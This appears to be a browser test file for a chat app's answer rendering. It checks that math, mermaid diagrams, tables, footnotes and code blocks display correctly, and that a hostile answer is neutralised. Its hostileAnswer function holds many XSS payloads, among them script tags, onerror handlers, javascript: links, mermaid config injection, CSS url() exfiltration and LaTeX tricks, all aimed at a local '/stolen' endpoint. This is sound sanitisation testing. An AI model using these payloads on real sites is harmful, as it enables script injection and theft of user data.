import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { chromiumPath, launch, phone, watchedPage, type WatchedPage } from './support/browser.js';
import { aConversation, aMessage, anEmptyHouse, aPerson, type House } from './support/double/house.js';
import { Double } from './support/double/server.js';
import { build } from './support/product.js';
import { screens } from './support/screens.js';
import { signIn } from './support/steps.js';

const path = chromiumPath();

const rich = String.raw`The variance is $\sigma^2 = \frac{1}{n}\sum_{i=1}^{n}(x_i-\mu)^2$, and it costs $5 and $10.[^cost]

$$
\int_{-\infty}^{\infty} e^{-x^2}\,dx = \sqrt{\pi}
\qquad A = \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix}
$$

- [x] Sealed with a key of its own
- [ ] Copied off the host

| Copy | Kept for | Where it is | Who may restore it | Last test | What was found in it |
| :-- | --: | :-- | :-- | :-- | :-- |
| daily | 7 days | on this host | two administrators together | yesterday | everything matched |

${'```'}mermaid
flowchart LR
  A[Question] --> B{Allowed?}
  B -->|yes| C[Answer]
  B -->|no| D[Refusal]
${'```'}

${'```'}python
def kept(backups, days): return [backup for backup in backups if backup.age < days or backup.is_newest_verified]
${'```'}

[^cost]: Without tax.
`;

describe.runIf(path !== null)('what answers are written in, in a browser', () => {
  let browser: Browser;
  let house: House;
  let double: Double;
  let watched: WatchedPage;
  let page: Page;

  beforeAll(async () => {
    await build();
    browser = await launch(path ?? '');
  });
  afterAll(() => browser.close());

  beforeEach(() => {
    house = anEmptyHouse();
    house.me = aPerson();
    double = new Double(house, resolve('dist/apps/portal/browser'));
  });
  afterEach(async () => {
    await watched.close();
    await double.close();
  });

  async function answered(answer: string, screen: Parameters<typeof watchedPage>[2]): Promise<void> {
    const conversation = aConversation('Backups', 0);
    const asked = aMessage('user', 'How long?', null);
    house.conversations.push(conversation);
    house.messages.set(conversation.id, [asked, aMessage('assistant', answer, asked.id)]);
    watched = await watchedPage(browser, await double.listen(), screen);
    ({ page } = watched);
    await signIn(page, 'mara', 'correct horse battery staple', `/chat/${conversation.id}`);
    await page.locator('cm-assistant-message').waitFor();
  }

  it.each(screens)('draws formulas, diagrams, tasks, tables and notes on a %s', async (_name, screen) => {
    await answered(rich, screen);

    await expect.poll(() => page.locator('math').count()).toBe(2);
    expect(await page.locator('math mfrac').first().isVisible()).toBe(true);
    expect(await page.locator('.cm-markdown').innerText()).toContain('it costs $5 and $10.');
    expect(await page.getByRole('checkbox', { name: 'Done', exact: true }).isChecked()).toBe(true);

    await page.locator('.diagram').scrollIntoViewIfNeeded();
    await page.locator('.diagram.drawn').waitFor();
    const drawing = page.getByTitle('Flowchart: ');
    expect(await drawing.getAttribute('title')).toMatch(/Question.*Allowed\?.*Answer/);
    expect(await drawing.contentFrame().locator('svg').isVisible()).toBe(true);
    const { width, height } = (await drawing.boundingBox()) ?? { width: 0, height: 0 };
    expect(Math.min(width, height)).toBeGreaterThan(30);
    await page.getByRole('button', { name: 'Show source' }).click();
    expect(await page.getByText('flowchart LR').isVisible()).toBe(true);
    await page.getByRole('button', { name: 'Show source' }).click();

    const table = page.getByRole('group', { name: 'Table' });
    const fits = await table.evaluate((frame) => [
      frame.scrollWidth > frame.clientWidth,
      document.body.scrollWidth <= innerWidth,
    ]);
    expect(fits).toEqual([screen === phone, true]);

    await page.getByRole('button', { name: 'Footnote 1', exact: true }).click();
    expect(await page.evaluate(() => document.activeElement?.textContent)).toContain('Without tax.');
    await page.getByRole('button', { name: 'Back to footnote 1 in the text' }).click();
    expect(await page.evaluate(() => document.activeElement?.className)).toBe('note-mark');
    expect(await watched.flaws()).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  it('wraps and saves a block of code', async () => {
    await answered(rich, phone);
    const code = page.locator('.code-block:not(.diagram)');
    const scrolls = () => code.locator('pre').evaluate((pre) => pre.scrollWidth > pre.clientWidth);
    expect(await scrolls()).toBe(true);
    await code.getByRole('button', { name: 'Wrap long lines' }).click();
    expect(await scrolls()).toBe(false);

    const saved = page.waitForEvent('download');
    await code.getByRole('button', { name: 'Download code' }).click();
    expect((await saved).suggestedFilename()).toBe('code.py');
    expect(watched.complaints).toEqual([]);
  });

  it('runs nothing of a hostile answer, asks nothing of any host for it, and goes on working', async () => {
    const asked: string[] = [];
    const elsewhere = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
    const out = `http://127.0.0.1:${String((elsewhere.address() as AddressInfo).port)}/stolen`;
    await answered(hostileAnswer(out), {});
    page.on('dialog', (dialog) => asked.push(`dialog ${dialog.message()}`));

    await page.locator('.cm-markdown').getByText('The end.').waitFor();
    for (const diagram of await page.locator('.diagram').all()) await diagram.scrollIntoViewIfNeeded();
    await expect.poll(() => page.locator('.diagram:not(.drawn, .undrawn)').count(), { timeout: 20_000 }).toBe(0);

    await new Promise<void>((resolve) => elsewhere.close(() => resolve()));
    expect(asked).toEqual([]);
    // A browser tells of what the policy kept back, too.
    const keptBack = ['Content Security Policy', `request to ${new URL(out).origin}`];
    expect(watched.complaints.filter((each) => !keptBack.some((words) => each.includes(words)))).toEqual([]);
    expect(await page.evaluate(() => 'stolen' in globalThis)).toBe(false);
    const answer = page.locator('.cm-markdown').first();
    expect(await answer.locator('script, img, object, embed, form, [onerror], [onload], a[href^="javascript:"]').count()).toBe(0);
    expect(await answer.locator(`iframe:not([sandbox="allow-scripts"])`).count()).toBe(0);
    for (const frame of page.frames().slice(1)) {
      expect(await frame.evaluate(() => origin)).toBe('null');
      expect(new URL(frame.url()).pathname).toBe('/diagrams/frame.html');
    }
    const text = await answer.innerText();
    expect(text).toContain('␛[31mred');
    expect(text).toContain('hid▯den');
    expect(text).not.toMatch(/[\u{e0000}-\u{e007f}\u200b\u202e]/u);
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
  });

  it('shows a megabyte without a space, and can still be used', async () => {
    await answered(`${'a'.repeat(1_000_000)}\n\nThe end.`, phone);
    await page.getByText('The end.').waitFor();
    expect(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth)).toBe(true);
    await page.getByLabel('Your question', { exact: true }).fill('Next');
    expect(watched.complaints).toEqual([]);
  });
});

function hostileAnswer(out: string): string {
  const fence = '```';
  const diagrams = [
    `flowchart LR\n  A["<img src=${out} onerror=fetch('${out}')>"] --> B["<script>parent.stolen=1</script>"]`,
    `flowchart LR\n  A[x]\n  click A "javascript:parent.stolen=1"\n  click A href "${out}" _self`,
    `flowchart LR\n  A@{ img: "${out}.png", label: "x", w: 60, h: 60 }`,
    `%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(${out})}", "htmlLabels": true}}%%\nflowchart LR\n  A["<b onmouseover=alert(1)>x</b>"]`,
    `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;} * { background: url(${out}) }"\n---\nflowchart LR\n  A-->B`,
    `flowchart LR\n  A-->B\n  style A fill:url(${out}),background:url(${out})\n  classDef x fill:#f00,background-image:url(${out})\n  class B x`,
    `sequenceDiagram\n  A->>B: <img src=x onerror=alert(1)>\n  links A: {"x": "${out}"}`,
    `flowchart LR\n${Array.from({ length: 900 }, (_, at) => `  A${String(at)} --> B${String(at)}`).join('\n')}`,
    'this is no diagram',
  ];
  return [
    `<script>globalThis.stolen = 1; fetch('${out}')</script>`,
    `<img src="${out}" onerror="globalThis.stolen=1"> ![picture](${out}) ![](data:image/svg+xml,<svg/onload=alert(1)>)`,
    `[click](javascript:globalThis.stolen=1) <javascript:alert(1)> [x](data:text/html,<script>alert(1)</script>)`,
    `<iframe src="${out}"></iframe> <style>@import "${out}"</style> <link rel=stylesheet href="${out}"> <meta http-equiv=refresh content="0;url=${out}">`,
    '\u001b[31mred\u001b[0m \u001b]8;;https://elsewhere.invalid\u0007link',
    'hid\u{e0068}\u{e0069}den zero\u200bwidth turned\u202earound',
    String.raw`$\href{javascript:alert(1)}{x}$ $\includegraphics{${out}}$ $\def\a{\a\a}\a$ $$\rule{90000em}{90000em}$$ $\style{background:url(${out})}{x}$`,
    `$${'{'.repeat(1900)}x${'}'.repeat(1900)}$`,
    ...diagrams.map((source) => `${fence}mermaid\n${source}\n${fence}`),
    'The end.',
  ].join('\n\n');
}
